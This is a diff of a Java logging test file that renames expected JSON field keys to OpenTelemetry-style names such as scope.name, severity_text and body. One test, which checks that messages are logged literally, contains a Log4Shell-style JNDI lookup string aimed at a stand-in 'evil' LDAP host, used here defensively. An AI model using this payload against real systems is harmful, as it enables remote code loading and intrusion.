@@ -35,7 +35,7 @@ class Slf4jLoggingTest {
         field("at", Instant.parse("2026-11-24T00:00:00Z")), field("tags", List.of("a", "b")),
         field("meta", Map.of("k", 1L)));
     JsonNode line = captured.lines().get(0);
-    assertThat(line.path("logger").asText()).isEqualTo("my-app");
+    assertThat(line.path("scope.name").asText()).isEqualTo("my-app");
     assertThat(line.path("service.name").asText()).isEqualTo("my-app");
     assertThat(line.path("url").asText()).isEqualTo("http://example.com");
     assertThat(line.path("attempt").asLong()).isEqualTo(3);
@@ -54,8 +54,8 @@ class Slf4jLoggingTest {
     db.warn("slow query", field("millis", 1200));
     JsonNode line = captured.lines().get(0);
     assertThat(db.name()).isEqualTo("my-app.db");
-    assertThat(line.path("logger").asText()).isEqualTo("my-app.db");
-    assertThat(line.path("level").asText()).isEqualTo("WARN");
+    assertThat(line.path("scope.name").asText()).isEqualTo("my-app.db");
+    assertThat(line.path("severity_text").asText()).isEqualTo("WARN");
     assertThat(line.path("pool").asText()).isEqualTo("primary");
     assertThat(line.path("millis").asLong()).isEqualTo(1200);
   }
@@ -64,8 +64,8 @@ class Slf4jLoggingTest {
   void errorFieldBecomesTheEventCause() throws Exception {
     obs.logger("my-app").error("boom", Field.error(new IllegalArgumentException("bad input")));
     JsonNode line = captured.lines().get(0);
-    assertThat(line.path("error").path("type").asText()).isEqualTo("java.lang.IllegalArgumentException");
-    assertThat(line.path("error").path("stack_trace").asText()).contains("Slf4jLoggingTest");
+    assertThat(line.path("exception.type").asText()).isEqualTo("java.lang.IllegalArgumentException");
+    assertThat(line.path("exception.stacktrace").asText()).contains("Slf4jLoggingTest");
   }
 
   @Test
@@ -87,7 +87,7 @@ class Slf4jLoggingTest {
     assertThatCode(() -> obs.logger("my-app").info("still logged", Field.any("hostile", hostile), null,
         field(null, "v"))).doesNotThrowAnyException();
     JsonNode line = captured.lines().get(0);
-    assertThat(line.path("message").asText()).isEqualTo("still logged");
+    assertThat(line.path("body").asText()).isEqualTo("still logged");
     assertThat(line.path("hostile").asText()).contains("toString() failed");
     assertThat(line.path("null").asText()).isEqualTo("v");
   }
@@ -95,6 +95,6 @@ class Slf4jLoggingTest {
   @Test
   void messagesAreWrittenLiterallyWithoutLookupsOrPlaceholders() throws Exception {
     obs.logger("my-app").info("${jndi:ldap://evil/x} and {} stay as written");
-    assertThat(captured.lines().get(0).path("message").asText()).isEqualTo("${jndi:ldap://evil/x} and {} stay as written");
+    assertThat(captured.lines().get(0).path("body").asText()).isEqualTo("${jndi:ldap://evil/x} and {} stay as written");
   }
 }
